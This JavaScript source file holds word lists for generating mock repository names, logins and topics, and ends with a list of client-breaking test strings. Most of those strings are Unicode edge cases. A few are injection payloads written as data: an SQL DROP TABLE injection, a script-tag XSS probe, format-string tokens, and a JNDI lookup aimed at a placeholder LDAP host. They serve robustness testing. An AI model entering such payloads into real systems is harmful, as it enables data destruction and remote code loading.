/*
 * The vocabulary of names, descriptions and topics. The three lists of NAME_WORDS and the two of LOGIN_WORDS hold fixed numbers
 * of distinct words, so that a number can be written in words and read back (see text.js and owners.js).
 */
const split = (text) => text.trim().split(/\s+/);

const ADJECTIVES = split(`
  agile amber ancient awesome basic better big blue bold brave bright calm casual clean clever cold compact cool crisp curious
  cute daily dark deep dense distributed dry dusty dynamic eager early easy elastic elegant empty epic fancy fast fine flat fluent
  free fresh fuzzy generic gentle giant global golden good grand great green happy hidden hot huge hybrid icy ideal idle inline
  instant jolly just keen kind large lazy lean light linear little live local lost loud low lucky lunar magic main mega micro mild
  mini misty mobile modern my native neat new nice noble odd old open orange plain polite prime proud pure quick quiet rapid rare
  raw real red remote rich rough round royal rusty safe sharp shiny short silent simple`);
const SUBJECTS = split(`
  ajax android angular api arduino asset auth aws azure bash binary bitcoin blog bootstrap bot browser build cache calendar camera
  canvas card cart chat chess chrome cloud cms code color config crypto css data dataset date deploy design desktop device discord
  django docker docs email emoji event excel expo fastapi file firebase flask flutter font form forum gallery game geo git github
  go gpu graph graphql grid hash home http icon image invoice ios java jekyll jenkins job json jwt kafka kernel key kotlin lambda
  laravel layout linux llm log login lua map markdown math matrix media menu mesh metric mongo movie music neural news node note
  numpy oauth opencv order page parser password pdf phone photo php pixel player plot portfolio postgres proxy python`);
const KINDS = split(`
  academy adapter admin agent analyzer app archive assistant backend base bench bindings board book boilerplate box bridge browser
  builder bundle calculator catalog challenge checker classifier cli client clone collection compiler console container converter
  core course crawler creator dashboard db debugger demo detector driver editor engine example examples exercises experiments
  explorer exporter extension extractor finder fork formatter forms framework frontend gateway generator guide handler helper hub
  importer index inspector installer interface kata kit lab launcher lessons lib library linter list loader maker manager mapper
  mirror mixer module monitor notes optimizer organizer parser patterns pipeline platform playground plugin portal practice printer
  project proxy reader recipes recorder registry renderer repo reporter resources router runner samples scanner scheduler`);
export const NAME_WORDS = [ADJECTIVES, SUBJECTS, KINDS].map((list) => [...new Set(list)].slice(0, 112));

const FIRST = split(`
  ada alan alex amir ana andre anna ben boris carla carlos chen chris dana daniel david diego elena emma eva fatima felix gao grace
  hana hugo igor ines ivan jack jana jin john jose julia kai karl kenji kim lena leo li lin lisa luca maria marko max mei mia
  mohamed nadia nina noah olga omar oscar paul petra priya raj`);
const LAST = split(`
  abe ahmed bakker becker bell black brown byte chan clark coder costa cruz dev diaz dubois evans fisher fox garcia gomez green
  gupta hall hill horn ito jones khan king klein kumar lab lane lee lopez ma meyer moore nagy novak ortiz park patel perez petrov
  popov ray reed rossi roy ruiz sato schmidt silva singh smith soto stone suzuki tan tran vega`);
export const LOGIN_WORDS = [FIRST, LAST].map((list) => [...new Set(list)].slice(0, 60));

export const TOPICS = split(`
  javascript python react nodejs machine-learning deep-learning typescript docker android ios api hacktoberfest html css java golang
  rust cpp c kubernetes linux aws vue angular django flask spring-boot laravel php ruby rails swift kotlin flutter dart tensorflow
  pytorch nlp computer-vision data-science data-visualization pandas numpy jupyter-notebook postgresql postgres mysql mongodb redis sqlite
  graphql rest-api microservices serverless terraform ansible devops ci-cd github-actions cli terminal bash zsh vim neovim emacs vscode
  game unity godot opengl webgl threejs electron chrome-extension firefox-addon discord-bot telegram-bot chatbot llm openai gpt
  langchain rag blockchain ethereum solidity bitcoin web3 iot arduino raspberry-pi robotics ros security pentesting ctf malware
  cryptography oauth jwt testing selenium playwright jest pytest awesome awesome-list tutorial education algorithms
  data-structures leetcode portfolio blog jekyll hugo markdown latex dotfiles config boilerplate template starter nextjs svelte
  tailwindcss bootstrap webpack vite babel eslint parser compiler interpreter 3d 100-days-of-code`);

export const PHRASES = [
  'A small library for', 'Simple and fast', 'My solutions to', 'Source code of', 'An opinionated starter for', 'Yet another tool for', 'Experiments with', 'Bindings to',
  'Course work:', 'Docker image with', 'Command line client for', 'Unofficial SDK of', 'Personal notes on', 'This repository contains', 'Archived. Used to be', 'Proof of concept of',
];

/** Texts that break clients. Each was seen on GitHub in some form (fact sheet 12.14) or is legal JSON that a client must survive. */
export const NASTY_TEXTS = [
  'NUL here: \u0000 and here: \u0000\u0000 end',
  'lone high surrogate \ud83d and text after it',
  '\udc00 lone low surrogate in front',
  '🚀 Rocket ✨ sparkle 👩‍👩‍👧‍👦 family 🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag',
  '一个简单而快速的网络爬虫框架，支持分布式部署',
  'シンプルで高速なウェブフレームワーク',
  'إطار عمل بسيط وسريع لتطبيقات الويب \u200f(RTL)',
  '\u202eright-to-left override\u202c and back',
  'quotes "double" \'single\' `back` and \\backslash\\ and \\u0041 and \\n',
  'tab\there, newline\nhere, carriage\rreturn, bell\u0007, escape\u001b[31m',
  "'); DROP TABLE repository; --",
  '<script>alert("x")</script> &amp; <b>bold</b>',
  'combining: Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '{"json":[1,2,{"a":null}]}',
  'separators \u2028 and \u2029, byte order mark \ufeff, replacement \ufffd, non-character \uffff',
  '𝕸𝖆𝖙𝖍 𝔞𝔩𝔭𝔥𝔞𝔫𝔲𝔪𝔢𝔯𝔦𝔠 𐍈 𠜎',
  '   leading and trailing blanks   ',
  '${jndi:ldap://example.invalid/a} %s %n %00 \\x00',
];
